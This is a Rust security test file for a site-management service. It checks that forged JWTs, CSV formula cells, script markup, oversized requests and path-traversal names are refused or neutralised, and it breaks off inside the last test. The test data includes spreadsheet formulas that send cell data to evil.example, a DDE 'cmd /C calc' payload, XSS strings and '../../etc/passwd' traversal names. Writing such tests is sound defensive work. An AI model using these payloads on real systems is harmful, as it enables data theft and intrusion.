//! Hostile input from outside: forged and misused viewer tokens on every endpoint and page,
//! formula cells in exports, markup in pages, bodies and headers at their limits, and path
//! traversal in template and backup names.
//!
//! Already proven elsewhere, and not repeated here: tampered, `alg: none`, wrongly signed,
//! expired and garbage tokens on the log's read endpoints and a missing token
//! (`tenancy::forged_expired_and_wrongly_signed_tokens_are_refused`); another account's
//! site and activity ids (`tenancy::another_accounts_site_or_activity_answers_404_like_a_missing_one`);
//! a site-scoped token on its sibling's log and on the account-wide list
//! (`tenancy::a_site_scoped_token_sees_only_its_site`); viewer tokens used as publisher keys
//! (`tenancy::publisher_endpoints_need_a_valid_key_and_viewer_tokens_are_not_keys`); expired
//! and invalid sign-in links (`pages::an_expired_sign_in_link_gets_a_page_that_says_so`,
//! `pages::an_invalid_or_missing_sign_in_token_gets_a_clear_page`); a description and an
//! error with markup on the log page (`pages::what_a_publisher_sent_is_html_escaped`);
//! `neutralise` itself (`export::tests::formula_cells_are_neutralised`).

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use base64::Engine;
use jsonwebtoken::{Algorithm, EncodingKey, Header};
use reqwest::StatusCode;
use serde_json::{Value, json};
use sitetrail_core::{ActorKind, Audience, BackupId, SiteId, TemplateId};
use sitetrail_server::pages::csrf;
use sitetrail_staging::snapshot::Snapshots;

use crate::*;

const LOG: &str = "/sites/shop/advanced-tools/activity-logs";

fn now_seconds() -> u64 {
    SystemTime::now()
        .duration_since(SystemTime::UNIX_EPOCH)
        .unwrap()
        .as_secs()
}

fn claims(account: &str, site: Option<&str>, audience: &str, kind: &str, email: &str) -> Value {
    let now = now_seconds();
    let mut c = json!({
        "account": account,
        "audience": audience,
        "actor": {"kind": kind, "email": email},
        "iat": now,
        "exp": now + 600,
    });
    if let Some(s) = site {
        c["site"] = json!(s);
    }
    c
}

impl TestApp {
    /// The server's own token signing key, as an attacker who stole it would have it.
    fn signing_key(&self) -> Vec<u8> {
        std::fs::read(self.data_dir.join("token-signing.key")).unwrap()
    }

    /// Any claims, signed with the server's key by any HMAC algorithm.
    fn sign_with(&self, alg: Algorithm, claims: &Value) -> String {
        jsonwebtoken::encode(
            &Header::new(alg),
            claims,
            &EncodingKey::from_secret(&self.signing_key()),
        )
        .unwrap()
    }

    async fn with_cookie(&self, token: &str, path: &str) -> reqwest::Response {
        self.http
            .get(self.url(path))
            .header("cookie", format!("sitetrail_session={token}"))
            .send()
            .await
            .unwrap()
    }

    async fn send_viewer(
        &self,
        token: &str,
        method: reqwest::Method,
        path: &str,
        body: Option<Value>,
    ) -> reqwest::Response {
        let mut req = self.http.request(method, self.url(path)).bearer_auth(token);
        if let Some(b) = body {
            req = req.json(&b);
        }
        req.send().await.unwrap()
    }

    /// How many activities the internal viewers of both accounts can read.
    async fn activity_count(&self) -> usize {
        let mut n = 0;
        for account in ["acme", "globex"] {
            let token = self.token(account, None, Audience::Internal);
            let mut path = "/api/v1/activities?limit=200".to_owned();
            loop {
                let page = self.get_json(&token, &path).await;
                n += page["items"].as_array().unwrap().len();
                match page["next_cursor"].as_str() {
                    Some(c) => path = format!("/api/v1/activities?limit=200&cursor={c}"),
                    None => break,
                }
            }
        }
        n
    }
}

/// Every endpoint a viewer may call, with a body where it takes one.
fn viewer_endpoints(site: &str) -> Vec<(reqwest::Method, String, Option<Value>)> {
    use reqwest::Method;
    let s = |p: &str| format!("/api/v1/sites/{site}{p}");
    vec![
        (Method::GET, "/api/v1/activities".into(), None),
        (Method::GET, s("/activities"), None),
        (Method::GET, s("/activities/export?format=csv"), None),
        (Method::GET, s("/activities/stream"), None),
        (Method::GET, "/api/v1/templates".into(), None),
        (Method::GET, s("/backups"), None),
        (
            Method::POST,
            s("/backups"),
            Some(json!({"environment": "live"})),
        ),
        (Method::POST, s("/staging"), None),
        (
            Method::POST,
            s("/staging/reset-from-template"),
            Some(json!({"template": "blank"})),
        ),
        (
            Method::POST,
            s("/staging/reset-from-backup"),
            Some(json!({"backup": "live-20260101T000000Z-abcd"})),
        ),
        (
            Method::POST,
            s("/staging/push-to-live"),
            Some(json!({"scope": "files", "keep_staging": true})),
        ),
    ]
}

fn dashboard_pages(site: &str) -> Vec<String> {
    [
        "",
        "/staging",
        "/staging/push-to-live",
        "/backups",
        "/advanced-tools",
        "/advanced-tools/activity-logs",
    ]
    .iter()
    .map(|p| format!("/sites/{site}{p}"))
    .collect()
}

/// A site whose environments have docroots, so that staging calls get as far as the names
/// they are given.
async fn host_shop(app: &TestApp, root: &Path) {
    let r = app
        .put_json(
            "/api/v1/sites/shop",
            &json!({"account_id": "acme", "name": "shop",
                    "live": {"url": "https://shop.example", "docroot": root.join("live")},
                    "staging": {"url": "https://staging.shop.example", "docroot": root.join("staging")}}),
        )
        .await;
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
}

#[tokio::test]
async fn forged_tokens_are_refused_by_every_endpoint_page_and_sign_in_link() {
    let app = spawn_app().await;
    let a = app.record(&activity("acme", "shop")).await;
    let id = a["id"].as_str().unwrap();
    let good = claims("acme", None, "internal", "support", SUPPORT_EMAIL);
    let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let valid = app.sign_with(Algorithm::HS256, &good);
    let (head, rest) = valid.split_once('.').unwrap();
    let body = rest.split_once('.').unwrap().0;
    let unsigned = |alg: &str| {
        format!(
            "{}.{body}.",
            b64.encode(format!(r#"{{"alg":"{alg}","typ":"JWT"}}"#))
        )
    };
    let with = |f: &dyn Fn(&mut Value)| {
        let mut c = good.clone();
        f(&mut c);
        app.sign_with(Algorithm::HS256, &c)
    };
    let other_key = sitetrail_server::TokenKeys::from_secret(&[9; 32]);
    let forged: Vec<(&str, String)> = vec![
        ("alg none", unsigned("none")),
        ("alg None", unsigned("None")),
        ("alg NONE", unsigned("NONE")),
        ("signature stripped", format!("{head}.{body}.")),
        ("no signature part", format!("{head}.{body}")),
        // Algorithm confusion: the right key, another HMAC.
        ("HS384 with the key", app.sign_with(Algorithm::HS384, &good)),
        ("HS512 with the key", app.sign_with(Algorithm::HS512, &good)),
        (
            "wrong key",
            other_key
                .mint(&app.tokens.verify(&valid).unwrap(), 600)
                .unwrap(),
        ),
        (
            "expired",
            with(&|c| {
                c["exp"] = json!(now_seconds() - 3600);
                c["iat"] = json!(now_seconds() - 7200);
            }),
        ),
        (
            "no exp",
            with(&|c| drop(c.as_object_mut().unwrap().remove("exp"))),
        ),
        ("exp as text", with(&|c| c["exp"] = json!("never"))),
        (
            "system actor",
            with(&|c| c["actor"] = json!({"kind": "system", "email": "ops@platform.example"})),
        ),
        (
            "unknown audience",
            with(&|c| c["audience"] = json!("admin")),
        ),
        (
            "no actor email",
            with(&|c| c["actor"] = json!({"kind": "support"})),
        ),
        (
            "bad actor email",
            with(&|c| c["actor"]["email"] = json!("<sam>")),
        ),
        (
            "control character in the name",
            with(&|c| c["actor"]["name"] = json!("Sam\u{7}")),
        ),
        ("bad account id", with(&|c| c["account"] = json!("../acme"))),
        ("bad site id", with(&|c| c["site"] = json!("shop/../blog"))),
        ("two tokens", format!("{valid} {valid}")),
    ];
    for (what, token) in &forged {
        assert!(app.tokens.verify(token).is_err(), "{what} verified");
        for (method, path, body) in viewer_endpoints("shop").into_iter().chain([(
            reqwest::Method::GET,
            format!("/api/v1/activities/{id}"),
            None,
        )]) {
            let r = app.send_viewer(token, method.clone(), &path, body).await;
            assert_eq!(r.status(), 401, "{what}: {method} {path}");
            let e: Value = r.json().await.unwrap();
            assert_eq!(e["error"]["code"], "unauthorized", "{what}: {path}");
        }
        for path in dashboard_pages("shop")
            .into_iter()
            .chain(["/api/v1/sites/shop/activities/export?format=ndjson".into()])
        {
            let r = app.with_cookie(token, &path).await;
            assert_eq!(r.status(), 401, "{what}: cookie on {path}");
        }
        let r = app
            .http
            .get(app.url(&format!("/login?token={}", urlencode(token))))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 401, "{what}: sign-in link");
        assert!(
            r.headers()
                .get("set-cookie")
                .is_none_or(|c| { c.to_str().unwrap().contains("Max-Age=0") })
        );
    }
    // The valid token of the same claims does get in, so the refusals above are the forgery's.
    let r = app
        .send_viewer(&valid, reqwest::Method::GET, "/api/v1/activities", None)
        .await;
    assert_eq!(r.status(), 200);
    assert_eq!(app.activity_count().await, 1, "nothing was written");
    let backups = app.get_json(&valid, "/api/v1/sites/shop/backups").await;
    assert_eq!(backups["items"], json!([]));
}

fn urlencode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' => (b as char).to_string(),
            b => format!("%{b:02X}"),
        })
        .collect()
}

#[tokio::test]
async fn tokens_of_another_account_or_site_start_nothing_there_and_open_none_of_its_pages() {
    let app = spawn_app().await;
    let dir = tempfile::tempdir().unwrap();
    host_shop(&app, dir.path()).await;
    let blog = app.record(&activity("acme", "blog")).await;
    let blog_id = blog["id"].as_str().unwrap();
    // A token scoped to blog on its sibling shop; a token of globex on acme's shop.
    let blog_only = app.token("acme", Some("blog"), Audience::Internal);
    let globex = app.token_for(
        "globex",
        None,
        Audience::Internal,
        ActorKind::Support,
        SUPPORT_EMAIL,
    );
    for (who, token, site) in [
        ("blog-scoped", &blog_only, "shop"),
        ("globex", &globex, "shop"),
    ] {
        for (method, path, body) in viewer_endpoints(site) {
            if path == "/api/v1/activities" || path == "/api/v1/templates" {
                continue; // not site paths: what they list is scoped, see tenancy.rs
            }
            let r = app.send_viewer(token, method.clone(), &path, body).await;
            assert_eq!(r.status(), 404, "{who}: {method} {path}");
            let e: Value = r.json().await.unwrap();
            assert_eq!(e["error"]["code"], "not_found", "{who}: {path}");
        }
        for path in dashboard_pages(site) {
            let r = app.with_cookie(token, &path).await;
            assert_eq!(r.status(), 404, "{who}: {path}");
        }
    }
    // The blog-scoped token reads blog, so the 404s above are about scope.
    let own = app
        .get_json(&blog_only, "/api/v1/sites/blog/activities")
        .await;
    assert_eq!(own["items"][0]["id"], blog_id);
    let r = app
        .get(&globex, &format!("/api/v1/activities/{blog_id}"))
        .await;
    assert_eq!(r.status(), 404);
    assert_eq!(
        app.activity_count().await,
        1,
        "nothing was started, refused or logged"
    );
    assert!(
        !dir.path().join("staging").exists() && !dir.path().join("live").exists(),
        "no docroot was touched"
    );
}

#[tokio::test]
async fn a_support_person_with_a_client_token_sees_only_what_a_client_sees() {
    let app = spawn_app().await;
    let a = app.record(&support_activity("acme", "shop")).await;
    let id = a["id"].as_str().unwrap();
    // The support person's own token, but with the client audience.
    let token = app.token_for(
        "acme",
        None,
        Audience::Client,
        ActorKind::Support,
        SUPPORT_EMAIL,
    );
    let mut seen = String::new();
    for path in [
        "/api/v1/activities".to_owned(),
        "/api/v1/sites/shop/activities".to_owned(),
        format!("/api/v1/activities/{id}"),
        "/api/v1/sites/shop/activities/export?format=csv".to_owned(),
        "/api/v1/sites/shop/activities/export?format=ndjson".to_owned(),
    ] {
        let r = app.get(&token, &path).await;
        assert_eq!(r.status(), 200, "{path}");
        seen.push_str(&r.text().await.unwrap());
    }
    assert!(seen.contains("Support user"), "{seen}");
    let lower = seen.to_lowercase();
    for secret in [SUPPORT_EMAIL, "sam.rivera", "rivera"] {
        assert!(!lower.contains(secret), "leaks {secret:?}: {seen}");
    }
    for query in [
        format!("q={SUPPORT_EMAIL}"),
        format!("user={SUPPORT_EMAIL}"),
    ] {
        let page = app
            .get_json(&token, &format!("/api/v1/sites/shop/activities?{query}"))
            .await;
        assert_eq!(page["items"], json!([]), "{query}");
    }
    // Scoped like any client: another account's site is not found.
    assert_eq!(
        app.get(&token, "/api/v1/sites/portal/activities")
            .await
            .status(),
        404
    );
}

#[tokio::test]
async fn formula_cells_are_neutralised_in_every_csv_export() {
    let app = spawn_app().await;
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Open\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tpadded",
    ];
    for d in formulas {
        let mut a = activity("acme", "shop");
        a["description"] = json!(d);
        app.record(&a).await;
    }
    // A User cell that starts like a formula: an email may.
    let mut a = activity("acme", "shop");
    a["actor"]["email"] = json!("=1+1@evil.example");
    a["description"] = json!("Pushed");
    app.record(&a).await;
    // An ending's description too.
    let started = app.record(&activity("acme", "shop")).await;
    let r = app
        .end(
            started["id"].as_str().unwrap(),
            "complete",
            &json!({"description": "=WEBSERVICE(\"http://evil.example\")"}),
        )
        .await;
    assert_eq!(r.status(), 200);
    // A carriage return cannot even be recorded.
    let mut a = activity("acme", "shop");
    a["description"] = json!("\r=1+1");
    assert_eq!(app.post_json("/api/v1/activities", &a).await.status(), 422);

    let client = app.token("acme", None, Audience::Client);
    let internal = app.token("acme", None, Audience::Internal);
    let exports = [
        app.get(&client, "/api/v1/sites/shop/activities/export?format=csv")
            .await,
        app.get(&internal, "/api/v1/sites/shop/activities/export")
            .await,
        // The dashboard's export link, on the session cookie.
        app.with_cookie(&client, "/api/v1/sites/shop/activities/export?format=csv")
            .await,
    ];
    for r in exports {
        assert_eq!(r.status(), 200);
        let text = r.text().await.unwrap();
        let mut rows = csv::Reader::from_reader(text.as_bytes());
        let mut descriptions = Vec::new();
        let mut users = Vec::new();
        for row in rows.records() {
            let row = row.unwrap();
            for cell in row.iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "a formula cell {cell:?} in {text}"
                );
            }
            users.push(row[1].to_owned());
            descriptions.push(row[5].to_owned());
        }
        assert_eq!(descriptions.len(), 7, "{text}");
        for d in formulas
            .iter()
            .chain(&["=WEBSERVICE(\"http://evil.example\")"])
        {
            assert!(
                descriptions.contains(&format!("'{d}")),
                "{d:?} kept, behind an apostrophe: {descriptions:?}"
            );
        }
        assert!(
            users.contains(&"'=1+1@evil.example".to_owned()),
            "{users:?}"
        );
    }
    // NDJSON is not for spreadsheets: it keeps the text as it was.
    let ndjson = app
        .get(
            &client,
            "/api/v1/sites/shop/activities/export?format=ndjson",
        )
        .await
        .text()
        .await
        .unwrap();
    let descriptions: Vec<String> = ndjson
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["description"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    assert!(
        descriptions.contains(&"-2+3".to_owned()),
        "{descriptions:?}"
    );
}

const SCRIPT: &str = "<script>alert(1)</script>";

/// The text of HTML: its character references decoded.
fn text_of(html: &str) -> String {
    [
        ("&#60;", "<"),
        ("&lt;", "<"),
        ("&#62;", ">"),
        ("&gt;", ">"),
        ("&#34;", "\""),
        ("&quot;", "\""),
        ("&#39;", "'"),
        ("&#x27;", "'"),
        ("&#38;", "&"),
        ("&amp;", "&"),
    ]
    .iter()
    .fold(html.to_owned(), |t, (entity, c)| t.replace(entity, c))
}

#[tokio::test]
async fn markup_from_publishers_and_from_the_address_bar_is_only_ever_escaped() {
    let app = spawn_app().await;
    // Every name a publisher gives that a page shows.
    let r = app
        .put_json(
            "/api/v1/accounts/acme",
            &json!({"name": format!("Acme {SCRIPT}"), "partner": format!("Agency {SCRIPT}")}),
        )
        .await;
    assert_eq!(r.status(), 200);
    let r = app
        .put_json(
            "/api/v1/sites/shop",
            &json!({"account_id": "acme", "name": format!("Shop {SCRIPT}"),
                    "live": {"url": "https://shop.example"},
                    "staging": {"url": "https://staging.shop.example"}}),
        )
        .await;
    assert_eq!(r.status(), 200);
    let mut a = activity("acme", "shop");
    a["description"] = json!(SCRIPT);
    a["actor"] = json!({"kind": "user", "email": "o'brien&co@acme.example", "name": SCRIPT});
    a["details"] = json!({"note": SCRIPT, SCRIPT: 1});
    let id = app.record(&a).await["id"].as_str().unwrap().to_owned();
    let r = app
        .end(
            &id,
            "fail",
            &json!({"error": SCRIPT, "description": format!("{SCRIPT} failed")}),
        )
        .await;
    assert_eq!(r.status(), 200);

    let mut pages: Vec<(String, reqwest::Response)> = Vec::new();
    for audience in [Audience::Client, Audience::Internal] {
        let token = app.token("acme", None, audience);
        for path in dashboard_pages("shop").into_iter().chain([
            format!("{LOG}?q={}", urlencode(SCRIPT)),
            format!("{LOG}?user={}", urlencode(SCRIPT)),
            format!(
                "{LOG}?q={}&status=failed",
                urlencode("\"><script>alert(1)</script>")
            ),
            format!("{LOG}?cursor={}", urlencode(SCRIPT)),
            format!("{LOG}?tz={}", urlencode(SCRIPT)),
            format!("{LOG}?from={}", urlencode(SCRIPT)),
            format!("{LOG}?activity={}", urlencode(SCRIPT)),
            format!("/sites/shop/staging?started={}", urlencode(SCRIPT)),
            format!("/sites/shop/staging?started={id}"),
            format!("/sites/shop/staging?backup={}", urlencode(SCRIPT)),
            format!("/sites/shop/backups?started={}", urlencode(SCRIPT)),
            format!("/sites/{}/staging", urlencode(SCRIPT)),
            format!("/sites/{}", urlencode("shop\"><script>alert(1)</script>")),
        ]) {
            let r = app.with_cookie(&token, &path).await;
            pages.push((path, r));
        }
        pages.push((
            "sign-in link".into(),
            app.http
                .get(app.url(&format!(
                    "/login?token={}&site={}",
                    urlencode(&token),
                    urlencode(SCRIPT)
                )))
                .send()
                .await
                .unwrap(),
        ));
        pages.push((
            "bad sign-in link".into(),
            app.http
                .get(app.url(&format!("/login?token={}", urlencode(SCRIPT))))
                .send()
                .await
                .unwrap(),
        ));
    }
    let mut escaped_somewhere = 0;
    for (path, r) in pages {
        let status = r.status();
        assert!(status.as_u16() < 500, "{path}: {status}");
        let location = r
            .headers()
            .get("location")
            .map(|l| l.to_str().unwrap().to_owned());
        let body = r.text().await.unwrap();
        for raw in ["<script>alert", "<script>"] {
            assert!(
                !body.contains(raw),
                "{path} ({status}) holds {raw:?}: {body}"
            );
        }
        if let Some(l) = location {
            assert!(!l.contains('<') && !l.contains('"'), "{path}: Location {l}");
        }
        if text_of(&body).contains(SCRIPT) {
            escaped_somewhere += 1;
        }
    }
    assert!(escaped_somewhere > 10, "the markup is shown, escaped");
    let log = app
        .with_cookie(&app.token("acme", None, Audience::Internal), LOG)
        .await
        .text()
        .await
        .unwrap();
    let text = text_of(&log);
    assert!(
        text.contains(&format!(
            "<span class=\"description\">{SCRIPT} failed</span>"
        )),
        "{log}"
    );
    assert!(text.contains("o'brien&co@acme.example"), "{log}");
    assert!(
        !log.contains("o'brien&co"),
        "quotes and ampersands are escaped too"
    );
}

/// A valid activity padded with trailing whitespace to exactly `len` bytes.
fn padded(body: &Value, len: usize) -> String {
    let mut text = body.to_string();
    assert!(text.len() <= len);
    text.extend(std::iter::repeat_n(' ', len - text.len()));
    text
}

#[tokio::test]
async fn bodies_up_to_their_limit_are_read_and_one_byte_more_is_a_413_that_writes_nothing() {
    let app = spawn_app().await;
    const SINGLE: usize = 64 * 1024;
    const BATCH: usize = 8 * 1024 * 1024;
    const DEFAULT: usize = 2 * 1024 * 1024;

    let too_large = |what: &'static str| {
        move |r: reqwest::Response| async move {
            assert_eq!(r.status(), 413, "{what}");
            let e: Value = r.json().await.unwrap();
            assert_eq!(e["error"]["code"], "too_large", "{what}: {e}");
        }
    };

    // Ingest of one activity.
    let r = app
        .post_raw(
            "/api/v1/activities",
            padded(&activity("acme", "shop"), SINGLE),
        )
        .await;
    assert_eq!(r.status(), 201, "{}", r.text().await.unwrap());
    too_large("one activity")(
        app.post_raw(
            "/api/v1/activities",
            padded(&activity("acme", "shop"), SINGLE + 1),
        )
        .await,
    )
    .await;
    // The same, streamed without a Content-Length.
    let chunked = |len: usize| {
        let text = padded(&activity("acme", "shop"), len);
        let chunks: Vec<Result<Vec<u8>, std::io::Error>> = text
            .into_bytes()
            .chunks(4096)
            .map(|c| Ok(c.to_vec()))
            .collect();
        reqwest::Body::wrap_stream(futures::stream::iter(chunks))
    };
    too_large("one activity, chunked")(
        app.post_raw("/api/v1/activities", chunked(SINGLE + 1))
            .await,
    )
    .await;
    let r = app.post_raw("/api/v1/activities", chunked(SINGLE)).await;
    assert_eq!(r.status(), 201, "chunked, at the limit");

    // Endings.
    let id = app.record(&activity("acme", "shop")).await["id"]
        .as_str()
        .unwrap()
        .to_owned();
    too_large("an ending")(
        app.post_raw(
            &format!("/api/v1/activities/{id}/complete"),
            padded(&json!({"description": "Done"}), SINGLE + 1),
        )
        .await,
    )
    .await;
    let r = app
        .post_raw(
            &format!("/api/v1/activities/{id}/complete"),
            padded(&json!({"description": "Done"}), SINGLE),
        )
        .await;
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());

    // A batch.
    let batch = json!({"activities": [activity("acme", "shop"), activity("acme", "blog")]});
    too_large("a batch")(
        app.post_raw("/api/v1/activities/batch", padded(&batch, BATCH + 1))
            .await,
    )
    .await;
    let r = app
        .post_raw("/api/v1/activities/batch", padded(&batch, BATCH))
        .await;
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap());
    let written = app.activity_count().await;
    assert_eq!(written, 5, "the three at their limits and the ended one");

    // Registering an account (the server's default limit): the partner's name shows on
    // the dashboard only once a request within the limit set it.
    let account = json!({"name": "acme", "partner": "Renamed Agency"});
    let put = |body: String| {
        app.http
            .put(app.url("/api/v1/accounts/acme"))
            .bearer_auth(&app.key)
            .header("content-type", "application/json")
            .body(body)
            .send()
    };
    let client = app.token("acme", None, Audience::Client);
    too_large("an account")(put(padded(&account, DEFAULT + 1)).await.unwrap()).await;
    let page = app.with_cookie(&client, LOG).await.text().await.unwrap();
    assert!(
        !page.contains("Renamed Agency"),
        "the refused update wrote nothing"
    );
    assert_eq!(put(padded(&account, DEFAULT)).await.unwrap().status(), 200);
    let page = app.with_cookie(&client, LOG).await.text().await.unwrap();
    assert!(page.contains("Renamed Agency"));
    // A staging call's body.
    let token = app.token("acme", None, Audience::Internal);
    let r = app
        .http
        .post(app.url("/api/v1/sites/shop/backups"))
        .bearer_auth(&token)
        .header("content-type", "application/json")
        .body(padded(&json!({"environment": "live"}), DEFAULT + 1))
        .send()
        .await
        .unwrap();
    too_large("a staging call")(r).await;
    assert_eq!(
        app.activity_count().await,
        written,
        "the refusals wrote nothing"
    );
}

/// Sends raw bytes on a fresh connection and returns the status line's code, or `None` when
/// the server closed the connection without an answer.
fn raw_request(base: &str, request: &[u8]) -> Option<(u16, String)> {
    let addr = base.trim_start_matches("http://");
    let mut s = std::net::TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    // The server may answer (and close) before it has read everything.
    let _ = s.write_all(request);
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    let text = String::from_utf8_lossy(&out).into_owned();
    let code = text.split(' ').nth(1)?.parse().ok()?;
    Some((code, text))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn headers_up_to_their_limits_are_read_and_beyond_them_get_a_4xx_that_writes_nothing() {
    let app = spawn_app().await;
    let body = activity("acme", "shop").to_string();
    let ingest = |extra: &str| {
        format!(
            "POST /api/v1/activities HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {}\r\n\
             content-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n{extra}\r\n{body}",
            app.key,
            body.len()
        )
        .into_bytes()
    };
    let base = app.base.clone();
    let send = move |req: Vec<u8>| {
        let base = base.clone();
        tokio::task::spawn_blocking(move || raw_request(&base, &req))
    };
    // hyper's defaults: at most 100 header fields, and about 400 KiB of request head
    // (8 KiB + 100 reads of 4 KiB; a head that arrives in larger reads may pass a little
    // beyond it, so "over" is well over). The request above has five fields of its own.
    let fields = |n: usize| {
        (0..n)
            .map(|i| format!("x-pad-{i}: {i}\r\n"))
            .collect::<String>()
    };
    let (code, text) = send(ingest(&fields(95))).await.unwrap().unwrap();
    assert_eq!(code, 201, "100 fields: {text}");
    let over = send(ingest(&fields(96))).await.unwrap();
    assert!(
        over.as_ref().is_none_or(|(c, _)| *c == 431),
        "101 fields: {over:?}"
    );
    let one_big = |n: usize| format!("x-pad: {}\r\n", "a".repeat(n));
    let (code, text) = send(ingest(&one_big(400 * 1024))).await.unwrap().unwrap();
    assert_eq!(
        code,
        201,
        "a 400 KiB field: {}",
        &text[..text.len().min(200)]
    );
    for size in [600 * 1024, 4 * 1024 * 1024] {
        let over = send(ingest(&one_big(size))).await.unwrap();
        assert!(
            over.as_ref().is_none_or(|(c, _)| *c == 431),
            "a {size} byte field: {:?}",
            over.map(|(c, _)| c)
        );
    }
    // The request line: a path of up to 65,534 bytes is read (and is not found); a longer
    // one is a 414.
    let path_of = |n: usize| {
        let prefix = "/api/v1/sites/";
        let suffix = "/activities";
        format!(
            "GET {prefix}{}{suffix} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {}\r\nconnection: close\r\n\r\n",
            "s".repeat(n - prefix.len() - suffix.len()),
            app.token("acme", None, Audience::Client)
        )
        .into_bytes()
    };
    let (code, _) = send(path_of(65_534)).await.unwrap().unwrap();
    assert_eq!(code, 404, "a 65,534 byte path names no site");
    let (code, _) = send(path_of(65_535)).await.unwrap().unwrap();
    assert_eq!(code, 414, "a 65,535 byte path");
    // Through reqwest too: a clear 4xx or a closed connection, never a 5xx.
    let r = app
        .http
        .post(app.url("/api/v1/activities"))
        .bearer_auth(&app.key)
        .header("x-pad", "a".repeat(600 * 1024))
        .json(&activity("acme", "shop"))
        .send()
        .await;
    if let Ok(r) = r {
        assert_eq!(r.status(), StatusCode::REQUEST_HEADER_FIELDS_TOO_LARGE);
    }
    assert_eq!(
        app.activity_count().await,
        2,
        "only the two within the limits"
    );
}

/// Every file under a directory with its size and modification time.
fn tree(dir: &Path) -> BTreeMap<PathBuf, (u64, SystemTime)> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_owned()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in entries {
            let e = e.unwrap();
            let meta = e.metadata().unwrap();
            if meta.is_dir() {
                stack.push(e.path());
            }
            out.insert(e.path(), (meta.len(), meta.modified().unwrap()));
        }
    }
    out
}

const HOSTILE_NAMES: &[&str] = &[
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "..%2F..",
    "/etc/passwd",
    "/",
    "..",
    ".",
    "....//....//etc",
    "..\\..\\windows",
    "blank\u{0}.tar",
    "\u{0}",
    "blank/../../../victim",
    "%00",
    "",
];

#[tokio::test]
async fn template_and_backup_names_that_leave_their_directory_are_refused_and_touch_nothing() {
    let app = spawn_app().await;
    let outside = tempfile::tempdir().unwrap();
    host_shop(&app, outside.path()).await;
    std::fs::create_dir_all(outside.path().join("etc")).unwrap();
    std::fs::write(outside.path().join("etc/passwd"), "root:x:0:0").unwrap();
    std::fs::create_dir_all(outside.path().join("victim")).unwrap();
    std::fs::write(outside.path().join("victim/manifest.json"), "{}").unwrap();
    let token = app.token("acme", None, Audience::Internal);
    let before = (tree(outside.path()), tree(&app.data_dir.join("snapshots")));
    let data_before: Vec<PathBuf> = tree(&app.data_dir).into_keys().collect();

    let mut answers = Vec::new();
    for name in HOSTILE_NAMES {
        for (path, body) in [
            (
                "/api/v1/sites/shop/staging/reset-from-template",
                json!({"template": name}),
            ),
            (
                "/api/v1/sites/shop/staging/reset-from-backup",
                json!({"backup": name}),
            ),
            ("/api/v1/sites/shop/backups", json!({"environment": name})),
        ] {
            let r = app
                .send_viewer(&token, reqwest::Method::POST, path, Some(body))
                .await;
            answers.push((format!("{path} {name:?}"), r));
        }
        // The same names where a site id goes.
        let encoded = urlencode(name);
        for path in [
            format!("/api/v1/sites/{encoded}/backups"),
            format!("/api/v1/sites/{encoded}/staging"),
            format!("/api/v1/sites/{name}/backups"),
        ] {
            if path.contains('\0') {
                continue; // not a URL at all
            }
            let r = app
                .send_viewer(
                    &token,
                    reqwest::Method::POST,
                    &path,
                    Some(json!({"environment": "live"})),
                )
                .await;
            answers.push((path.clone(), r));
            let r = app
                .send_viewer(&token, reqwest::Method::GET, &path, None)
                .await;
            answers.push((path, r));
        }
    }
    for (what, r) in answers {
        let status = r.status();
        assert!(status.is_client_error(), "{what}: {status}");
        let text = r.text().await.unwrap();
        if !text.is_empty() {
            let e: Value = serde_json::from_str(&text).unwrap_or_else(|_| panic!("{what}: {text}"));
            assert!(e["error"]["code"].is_string(), "{what}: {text}");
            assert!(!text.contains("root:x"), "{what}: {text}");
        }
    }
    // Paths no URL parser would send: dot segments and a NUL, as raw bytes.
    for target in [
        "/api/v1/sites/../../../etc/passwd/backups",
        "/api/v1/sites/shop/../../../../etc/passwd",
        "/api/v1/sites/%2e%2e/backups",
        "/api/v1/sites/shop%00/backups",
        "/api/v1/sites/shop\0/backups",
    ] {
        let request = format!(
            "GET {target} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {token}\r\nconnection: close\r\n\r\n"
        );
        let base = app.base.clone();
        let answer = tokio::task::spawn_blocking(move || raw_request(&base, request.as_bytes()))
            .await
            .unwrap();
        assert!(
            answer
                .as_ref()
                .is_none_or(|(c, t)| (400..500).contains(c) && !t.contains("root:x")),
            "{target:?}: {answer:?}"
        );
    }
    // The dashboard's forms, with a valid CSRF token.
    for name in ["../../etc/passwd", "/etc/passwd", "a\u{0}b", ".."] {
        for (form, field) in [
            ("reset-from-template", "template"),
            ("reset-from-backup", "backup"),
        ] {
            let r = app
                .http
                .post(app.url(&format!("/sites/shop/staging/{form}")))
                .header("cookie", format!("sitetrail_session={token}"))
                .header("content-type", "application/x-www-form-urlencoded")
                .body(format!(
                    "csrf={}&{field}={}",
                    csrf::token_for(&token),
                    urlencode(name)
                ))
                .send()
                .await
                .unwrap();
            assert!(
                r.status().is_client_error(),
                "form {form} {name:?}: {}",
                r.status()
            );
        }
    }

    assert_eq!(
        (tree(outside.path()), tree(&app.data_dir.join("snapshots"))),
        before,
        "nothing outside or in the snapshots was touched"
    );
